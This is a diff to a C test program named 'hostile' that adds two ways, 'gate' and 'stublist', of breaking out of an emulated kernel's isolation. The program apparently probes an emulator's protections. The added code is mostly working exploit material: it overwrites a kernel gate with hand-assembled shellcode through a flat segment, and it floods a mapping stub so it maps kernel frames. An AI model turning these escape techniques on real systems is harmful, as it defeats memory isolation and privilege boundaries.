@@ -169,6 +169,63 @@ static void by_window_hypercall(const char *argument)
 	fflush(stdout);
 }
 
+/* Writes another gate into the CPU window's data page, by the host's flat segment: 64-bit code that reads the guest kernel's memory
+ * and goes on to the gate that was there.  Whoever comes to the engine by the gate next is the kernel, on its way back from a
+ * system call. */
+static void by_gate(const char *argument)
+{
+	static volatile uint32_t reached;
+	unsigned char *payload = place_code64() + 1024;
+	uint32_t kernel = KERNEL, flag = (uint32_t)(uintptr_t)&reached, old = 0, new = (uint32_t)(uintptr_t)payload;
+	long pid;
+
+	(void)argument;
+	__asm__ volatile("pushl %%ds; movw %w1, %%ds; movl 0xffffc020, %0; popl %%ds" : "=&r"(old) : "r"(0x2b) : "memory");
+	/* mov $kernel,%r9d; mov (%r9),%r10d; mov $flag,%r9d; movl $1,(%r9); mov $old,%r9d; jmp *%r9 */
+	memcpy(payload, "\x41\xb9....\x45\x8b\x11\x41\xb9....\x41\xc7\x01\1\0\0\0\x41\xb9....\x41\xff\xe1", 31);
+	memcpy(payload + 2, &kernel, 4);
+	memcpy(payload + 11, &flag, 4);
+	memcpy(payload + 24, &old, 4);
+	for (unsigned i = 0; i < 100 && !reached; i++)
+		__asm__ volatile("pushl %%ds; movw %w3, %%ds; movl %2, 0xffffc020; popl %%ds\n"
+				 "	int $0x80\n"
+				 "	pushl %%ds; movw %w3, %%ds; movl %1, 0xffffc020; popl %%ds"
+				 : "=a"(pid) : "D"(old), "S"(new), "d"(0x2b), "0"(SYS_getpid) : "memory");
+	if (reached)
+		printf("PROOF of the kernel's address space\n");
+	fflush(stdout);
+}
+
+/* The mapping stub with a list of operations of the program's own, so long that a tick interrupts it: each maps a frame of the
+ * kernel's. */
+static void by_stub_list(const char *argument)
+{
+	enum { OPS = 65536, OP_BYTES = 64, AT = 0x40000000 };
+	unsigned char *code = place_code64() + 1024;
+	uint64_t *ops = mmap(NULL, OPS * OP_BYTES, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
+	uint64_t stub = strtoull(argument, NULL, 0), list = (uint32_t)(uintptr_t)ops;
+	uint32_t count = OPS;
+	static sigjmp_buf outside;
+
+	for (unsigned i = 0; i < OPS; i++) { /* mmap(AT, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, 3, 16 MiB) */
+		const uint64_t op[8] = { 9, AT, 4096, 3, 0x11, 3, 16 << 20 };
+
+		memcpy(ops + i * 8, op, sizeof op);
+	}
+	/* movabs $list,%rbx; mov $count,%ebp; movabs $stub,%rcx; jmp *%rcx */
+	memcpy(code, "\x48\xbb........\xbd....\x48\xb9........\xff\xe1", 27);
+	memcpy(code + 2, &list, 8);
+	memcpy(code + 11, &count, 4);
+	memcpy(code + 17, &stub, 8);
+	memcpy(outside, back, sizeof outside);
+	if (!sigsetjmp(back, 1))
+		far_jump(0x33, (uint32_t)(uintptr_t)code);
+	if (!sigsetjmp(back, 1))
+		printf("PROOF of the kernel's memory: %x\n", *(volatile uint32_t *)AT);
+	fflush(stdout);
+	memcpy(back, outside, sizeof outside);
+}
+
 /* What only the kernel may say to the monitor. */
 static void by_marker(const char *argument)
 {
@@ -196,7 +253,7 @@ static const struct method {
 	{ "int80", by_int80, false },	     { "syscall", by_syscall, false },	 { "sysenter", by_sysenter, false },
 	{ "farjump", by_far_jump, false },   { "stub", by_stub, false },	 { "flat", by_flat_segment, false },
 	{ "kernel", by_kernel_memory, false }, { "iret", by_window_iret, false },
-	{ "window", by_window_hypercall, false },
+	{ "window", by_window_hypercall, false }, { "gate", by_gate, false }, { "stublist", by_stub_list, false },
 	{ "marker", by_marker, true },	     { "hypercall", by_hypercall, true }, { "privileged", by_privileged, true },
 };
 
@@ -225,6 +282,6 @@ int main(int argc, char **argv)
 	for (size_t i = 0; argc > 1 && i < sizeof methods / sizeof *methods; i++)
 		if (!strcmp(argv[1], methods[i].name))
 			return run(&methods[i], argc > 2 ? argv[2] : NULL);
-	fprintf(stderr, "usage: hostile int80|syscall|sysenter|farjump|stub|flat|kernel|iret|window|marker|hypercall|privileged [ADDRESS]\n");
+	fprintf(stderr, "usage: hostile int80|syscall|sysenter|farjump|stub|flat|kernel|iret|window|gate|stublist|marker|hypercall|privileged [ADDRESS]\n");
 	return 2;
 }
